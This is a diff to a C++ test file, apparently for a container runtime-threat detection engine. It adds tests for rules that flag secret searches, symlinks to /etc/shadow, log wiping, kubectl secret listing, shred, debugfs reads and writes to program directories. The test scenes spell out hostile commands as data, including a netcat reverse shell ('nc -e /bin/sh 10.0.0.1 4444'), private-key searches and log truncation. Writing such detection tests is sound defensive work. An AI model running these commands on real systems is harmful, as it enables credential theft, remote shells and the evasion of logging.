@@ -100,8 +100,9 @@ TEST_CASE("default rules: the file loads without warnings, every rule has desc, 
     CHECK(errors.empty());
     CHECK(warnings == Names{});
     CHECK(r->rule_count() >= 30);
-    const Names categories{"miner", "scanner",     "host_mount",      "escape", "drift",
-                           "recon", "credential_access", "persistence", "defense_evasion"};
+    const Names categories{"miner", "scanner",           "host_mount",  "escape",          "drift",
+                           "recon", "credential_access", "persistence", "defense_evasion", "execution",
+                           "impact"};
     for (size_t i = 0; i < r->rule_count(); i++) {
         const auto &info = r->rule_info(i);
         INFO(info.name);
@@ -670,6 +671,103 @@ TEST_CASE("default rules: packet and raw IP sockets in a container, but not ping
     CHECK(fired(socket_call(AF_PACKET, SOCK_RAW, 768).on_host()).empty());
 }
 
+TEST_CASE("default rules: secret searches, sensitive links and system logs emptied in a container",
+          "[default_rules][credentials]") {
+    const auto search = detect(exec_scene("/usr/bin/find", {"find", "/", "-name", "id_rsa*"}));
+    REQUIRE(search.size() == 1);
+    CHECK(search[0].rule->name == "secret_search_in_container");
+    CHECK(search[0].rule->category == "credential_access");
+    CHECK(search[0].output == "Search for secrets in container " + kContainerId + ": find / -name id_rsa* (/usr/bin/find)");
+    CHECK(fired(exec_scene("/bin/busybox", {"grep", "-rl", "BEGIN OPENSSH PRIVATE", "/home"})) ==
+          Names{"secret_search_in_container"});
+    CHECK(fired(exec_scene("/usr/bin/find", {"find", "/", "-name", "*.pem"})) == Names{"secret_search_in_container"});
+    // near misses: other searches, a key read by its path, the host
+    CHECK(fired(exec_scene("/usr/bin/find", {"find", "/tmp", "-name", "*.log", "-mtime", "+7"})).empty());
+    CHECK(fired(exec_scene("/bin/grep", {"grep", "-r", "TODO", "/src"})).empty());
+    CHECK(fired(exec_scene("/usr/bin/find", {"find", "/", "-name", "id_rsa"}).on_host()).empty());
+
+    const auto link = detect(syscall_scene(crowsnest::Syscall::Symlinkat, {}, 0, "/etc/shadow", "/tmp/notes.txt"));
+    REQUIRE(link.size() == 1);
+    CHECK(link[0].rule->name == "sensitive_file_symlinked_in_container");
+    CHECK(link[0].output == "Link to /etc/shadow made as /tmp/notes.txt in container " + kContainerId +
+                                " by strace (strace -p 1)");
+    CHECK(fired(syscall_scene(crowsnest::Syscall::Symlink, {}, 0, "/root/.ssh/authorized_keys", "k")) ==
+          Names{"sensitive_file_symlinked_in_container"});
+    CHECK(fired(syscall_scene(crowsnest::Syscall::Symlink, {}, 0, "/proc/1/root", "/tmp/r")) ==
+          Names{"sensitive_file_symlinked_in_container"});
+    CHECK(fired(syscall_scene(crowsnest::Syscall::Symlink, {}, 0, "/usr/share/zoneinfo/UTC", "/etc/localtime")).empty());
+    CHECK(fired(syscall_scene(crowsnest::Syscall::Symlink, {}, 0, "/etc/shadow.d", "/tmp/x")).empty());
+    CHECK(fired(syscall_scene(crowsnest::Syscall::Symlink, {}, -17, "/etc/shadow", "/tmp/x")).empty());  // EEXIST
+
+    Scene cleared = opened("/var/log/auth.log", O_WRONLY | O_TRUNC);
+    cleared.by("/bin/sh", {"sh", "-c", ": > /var/log/auth.log"});
+    const auto ds = detect(cleared);
+    REQUIRE(ds.size() == 1);
+    CHECK(ds[0].rule->name == "system_log_cleared_in_container");
+    CHECK(ds[0].rule->category == "defense_evasion");
+    CHECK(fired(opened("/var/log/wtmp", O_RDWR | O_TRUNC)) == Names{"system_log_cleared_in_container"});
+    CHECK(fired(opened("/var/log/audit/audit.log", O_WRONLY | O_TRUNC)) == Names{"system_log_cleared_in_container"});
+    // an entrypoint's own log, an append to the system log, another directory
+    CHECK(fired(opened("/var/log/app.log", O_WRONLY | O_CREAT | O_TRUNC)).empty());
+    CHECK(fired(opened("/var/log/nginx/access.log", O_WRONLY | O_TRUNC)).empty());
+    CHECK(fired(opened("/var/log/syslog", O_WRONLY | O_APPEND)).empty());
+    CHECK(fired(opened("/tmp/syslog", O_WRONLY | O_TRUNC)).empty());
+}
+
+TEST_CASE("default rules: admin tools, data wipes, debugfs on a device and program directories written in a "
+          "container",
+          "[default_rules][escape]") {
+    const auto kubectl = detect(exec_scene("/usr/local/bin/kubectl", {"kubectl", "get", "secrets", "-A"}));
+    REQUIRE(kubectl.size() == 1);
+    CHECK(kubectl[0].rule->name == "container_admin_tool_in_container");
+    CHECK(kubectl[0].rule->category == "execution");
+    CHECK(kubectl[0].rule->severity == "medium");
+    CHECK(fired(exec_scene("/usr/local/bin/c", {"crictl", "ps"})) == Names{"container_admin_tool_in_container"});  // argv[0]
+    CHECK(fired(exec_scene("/usr/bin/docker", {"docker", "-H", "unix:///host/run/docker.sock", "ps"})) ==
+          Names{"container_admin_tool_in_container"});
+    CHECK(fired(exec_scene("/usr/local/bin/kubectl", {"kubectl", "version"}).on_host()).empty());
+    CHECK(fired(exec_scene("/usr/bin/dockerd-rootless.sh", {"dockerd-rootless.sh"})).empty());
+
+    const auto wipe = detect(exec_scene("/usr/bin/shred", {"shred", "-u", "/tmp/x"}));
+    REQUIRE(wipe.size() == 1);
+    CHECK(wipe[0].rule->name == "data_wipe_tool_in_container");
+    CHECK(wipe[0].rule->category == "impact");
+    CHECK(fired(exec_scene("/bin/busybox", {"shred", "-n", "3", "/data/db"})) == Names{"data_wipe_tool_in_container"});
+    CHECK(fired(exec_scene("/bin/rm", {"rm", "-f", "/tmp/x"})).empty());
+
+    const auto debugfs = detect(exec_scene("/sbin/debugfs", {"debugfs", "-R", "cat /etc/shadow", "/dev/sda1"}));
+    REQUIRE(debugfs.size() == 1);
+    CHECK(debugfs[0].rule->name == "debugfs_on_device_in_container");
+    CHECK(debugfs[0].rule->severity == "high");
+    CHECK(fired(exec_scene("/sbin/debugfs", {"debugfs", "-R", "ls", "rootfs.img"})).empty());  // an image file
+
+    Scene planted = opened("/usr/local/bin/ls", O_WRONLY | O_CREAT | O_TRUNC);
+    planted.by("/bin/cp", {"cp", "/tmp/ls", "/usr/local/bin/ls"});
+    const auto ds = detect(planted);
+    REQUIRE(ds.size() == 1);
+    CHECK(ds[0].rule->name == "binary_dir_written_in_container");
+    CHECK(ds[0].output == "Program directory written in container " + kContainerId +
+                              ": /usr/local/bin/ls by cp (cp /tmp/ls /usr/local/bin/ls)");
+    Scene refused = opened("/bin/ps", O_WRONLY | O_TRUNC);
+    refused.event.ret = -30;  // EROFS: attempts count
+    CHECK(fired(refused) == Names{"binary_dir_written_in_container"});
+    // package managers and their children, reads, other directories under /usr
+    Scene dpkg = opened("/usr/bin/make", O_WRONLY | O_CREAT);
+    dpkg.by("/usr/bin/dpkg", {"dpkg", "-i", "make.deb"});
+    CHECK(fired(dpkg).empty());
+    Scene pip = opened("/usr/local/bin/flask", O_WRONLY | O_CREAT);  // a script's comm is the script's name
+    pip.by("/usr/local/bin/python3.12", {"/usr/local/bin/python3", "/usr/local/bin/pip", "install", "flask"});
+    pip.process.comm = pip.event.comm = "pip";
+    CHECK(fired(pip).empty());
+    Scene maintainer = opened("/usr/sbin/policy-rc.d", O_WRONLY | O_CREAT);  // a package's script, under dpkg
+    maintainer.by("/bin/sh", {"/bin/sh", "/var/lib/dpkg/info/x.postinst", "configure"});
+    maintainer.parent = {4300, 1, "dpkg", "/usr/bin/dpkg", {"dpkg", "--configure", "-a"}};
+    CHECK(fired(maintainer).empty());
+    CHECK(fired(opened("/usr/bin/ls", O_RDONLY)).empty());
+    CHECK(fired(opened("/usr/share/doc/x/README", O_WRONLY | O_CREAT)).empty());
+    CHECK(fired(opened("/usr/lib/python3/dist-packages/x.py", O_WRONLY | O_CREAT)).empty());
+}
+
 TEST_CASE("default rules: container discovery is three confinement files read within a minute, not one",
           "[default_rules][recon]") {
     // amicontained-like: a renamed binary learns its AppArmor profile, init's
@@ -946,7 +1044,7 @@ TEST_CASE("Falco-style rules load unchanged and fire", "[default_rules][falco]")
     CHECK(ds[0].output.find("command=nc -e /bin/sh 10.0.0.1 4444 pid=4321 parent_process=sh container_id=" +
                             kContainerId + " container_name=<NA>") != std::string::npos);
     CHECK(ds[1].rule->name == "Netcat Remote Code Execution in Container");
-    CHECK(ds[1].rule->category == "other");
+    CHECK(ds[1].rule->category == "execution");  // mitre_execution
     CHECK(fired(exec_scene("/usr/bin/nc", {"nc", "-e", "/bin/sh"}).on_host(), *r).empty());
 
     CHECK(fired(open_scene("/etc/shadow"), *r) == Names{"Read sensitive file untrusted"});
